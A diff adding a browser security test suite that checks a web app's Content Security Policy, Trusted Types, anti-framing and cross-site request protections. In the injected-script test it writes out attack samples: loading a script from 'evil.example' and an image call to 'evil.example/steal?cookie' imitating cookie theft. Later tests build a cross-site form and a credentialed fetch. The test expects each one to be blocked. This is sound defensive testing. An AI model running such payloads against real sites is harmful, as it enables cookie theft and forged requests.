@@ -1,0 +1,139 @@
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { identity } from '../../contract/identity.ts'
+import { launchBrowser } from '../browser.ts'
+import { type Person, verified } from '../people.ts'
+import { realServer, until } from './server.ts'
+import { desktop, type Visit, visit } from './visit.ts'
+
+const server = realServer()
+let browser: Browser
+let maria: Person
+/** A site of somebody else's, on another host: what it shows is said by each test. */
+let elsewhere: Server
+let page = ''
+let address = ''
+beforeAll(async () => {
+  browser = await launchBrowser()
+  maria = await verified(server.api)
+  elsewhere = createServer((_, reply) => reply.setHeader('content-type', 'text/html').end(page))
+  await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done))
+  address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
+}, 600_000)
+afterAll(async () => {
+  await browser?.close()
+  elsewhere?.close()
+})
+
+/** A window that keeps every violation of the policy that its pages report, the browser's own words and no console of ours. */
+const watched = async (as?: Person): Promise<Visit & { violations: () => Promise<string[]> }> => {
+  const opened = await visit(browser, { url: server.url, size: desktop, language: 'en', ...(as ? { as } : {}) })
+  await opened.page.addInitScript(() => {
+    const kept: string[] = []
+    Object.assign(window, { kept })
+    document.addEventListener('securitypolicyviolation', (event) => {
+      kept.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`)
+    })
+  })
+  const violations = () => opened.page.evaluate(() => (window as unknown as { kept: string[] }).kept)
+  return { ...opened, violations }
+}
+
+const settled = async (shown: Page, path: string): Promise<void> => {
+  await shown.goto(path)
+  await shown.locator('h1, h2').first().waitFor({ state: 'attached' })
+  await until('everything is there', async () => {
+    const waiting = await shown.locator('.skeleton, .loader-disc, [aria-busy=true]').count()
+    return waiting === 0 || undefined
+  })
+}
+
+describe('our own pages keep the policy', () => {
+  test.each([
+    ['a visitor', ['/', '/help', '/login', '/signup'], false],
+    ['a customer', ['/dashboard', '/dashboard/send', '/dashboard/recipients', '/dashboard/settings'], true],
+  ] as const)('for %s', async (_, paths, signedIn) => {
+    const { context, page: shown, problems, violations } = await watched(signedIn ? maria : undefined)
+    for (const path of paths) {
+      await settled(shown, path)
+      expect(await violations(), path).toEqual([])
+    }
+    expect(problems.filter((problem) => /policy|trusted/i.test(problem))).toEqual([])
+    await context.close()
+  })
+})
+
+describe('a script that got into a page', () => {
+  test.each(['/', '/login'])(
+    'cannot write markup, make a policy, add a script or evaluate text on %s',
+    async (path) => {
+      const { context, page: shown, violations } = await watched()
+      await settled(shown, path)
+      const tried = await shown.evaluate(() => {
+        const reason = (work: () => unknown): string => {
+          try {
+            work()
+            return 'done'
+          } catch (error) {
+            return (error as Error).name
+          }
+        }
+        const trusted = (
+          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+        ).trustedTypes
+        return {
+          markup: reason(() => {
+            document.body.innerHTML = '<img src=x>'
+          }),
+          policy: reason(() => trusted.createPolicy('mine', { createHTML: (html: string) => html })),
+          source: reason(() => {
+            document.createElement('script').src = 'https://evil.example/x.js'
+          }),
+          text: reason(() => new Function('return 1')()),
+        }
+      })
+      expect(tried).toEqual({ markup: 'TypeError', policy: 'TypeError', source: 'TypeError', text: 'EvalError' })
+      await shown.evaluate(() => {
+        const image = document.createElement('img')
+        image.src = 'https://evil.example/steal?cookie'
+        document.body.append(image)
+      })
+      await until('the picture of another site is refused', async () => {
+        const found = await violations()
+        return found.some((one) => one.startsWith('img-src https://evil.example')) || undefined
+      })
+      await context.close()
+    },
+  )
+})
+
+describe('a page of another site', () => {
+  test('cannot show ours in a frame', async () => {
+    page = `<iframe src="${server.url}/"></iframe>`
+    const { context, page: shown } = await watched()
+    const refused = shown.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()))
+    await shown.goto(address)
+    expect((await refused).text()).toMatch(/frame-ancestors 'none'/)
+    await context.close()
+  })
+
+  test('cannot end a session or change a thing with a form or a fetch, though the reader is signed in', async () => {
+    const { context, page: shown } = await watched(maria)
+    await settled(shown, '/dashboard')
+    page = `<form method="post" action="${server.url}/api/session/renewal" enctype="text/plain"><button>x</button></form>`
+    await shown.goto(address)
+    const posted = shown.waitForResponse(`${server.url}/api/session/renewal`)
+    await shown.locator('button').click()
+    expect((await posted).status()).toBe(403)
+    await shown.goto(address)
+    const asked = shown.waitForResponse(`${server.url}/api/session`)
+    await shown.evaluate((url) => {
+      fetch(`${url}/api/session`, { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(() => {})
+    }, server.url)
+    expect([403, 404]).toContain((await asked).status())
+    expect((await server.api.call(identity.me, { as: maria })).status).toBe(200)
+    await context.close()
+  })
+})
